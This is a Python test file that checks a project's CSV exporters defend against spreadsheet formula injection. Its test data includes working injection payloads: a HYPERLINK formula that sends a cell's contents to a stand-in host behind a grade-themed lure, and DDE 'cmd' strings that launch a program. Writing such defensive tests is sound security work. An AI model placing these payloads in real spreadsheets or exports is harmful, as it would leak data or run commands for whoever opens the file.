"""CSV injection: every cell a spreadsheet would read as a formula arrives as text."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dropout_lab.export import files as export
from dropout_lab.lesson.csv_cells import TRIGGERS, safe_cell
from dropout_lab.store import classroom

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click for your grade")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # spaces first: some spreadsheets trim them
    "- Ada",  # a name starting with -
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_is_prefixed_with_a_quote(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("plain", ["Ada", "0.91", "-0.25", "+3", "1e-3", "-2.5E+4", "", "✓", "a=b"])
def test_plain_text_and_numbers_are_left_alone(plain: str) -> None:
    assert safe_cell(plain) == plain


def test_none_and_numbers_become_their_text() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(-0.5) == "-0.5"
    assert safe_cell(3) == "3"


@given(st.text())
def test_no_cell_starts_a_formula(text: str) -> None:
    out = safe_cell(text)
    number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", out)
    assert out.lstrip(" ")[:1] not in TRIGGERS or number
    assert out in (text, "'" + text)  # nothing is lost: at most one quote in front


def test_every_exported_cell_and_header_is_neutralised() -> None:
    rows = [{"learner": "=cmd|'/C calc'!A0", "kind": "reflection", "item": "why",
             "answer": '=HYPERLINK("http://evil.example", "x")', "correct": "",
             "detail": "@SUM(A1)"}]  # fmt: skip
    text = classroom.to_csv(rows, [*classroom.WORK_COLUMNS, "+header"])
    got = list(csv.reader(io.StringIO(text)))
    assert got[0][-1] == "'+header"
    assert got[1][:6] == ["'=cmd|'/C calc'!A0", "reflection", "why",
                          '\'=HYPERLINK("http://evil.example", "x")', "", "'@SUM(A1)"]  # fmt: skip


def test_the_history_csv_neutralises_a_metric_name() -> None:
    text = export.history_csv({"loss": [0.5], "=evil()": [-0.25]})
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[-1] == "'=evil()" and row[-1] == "-0.25"
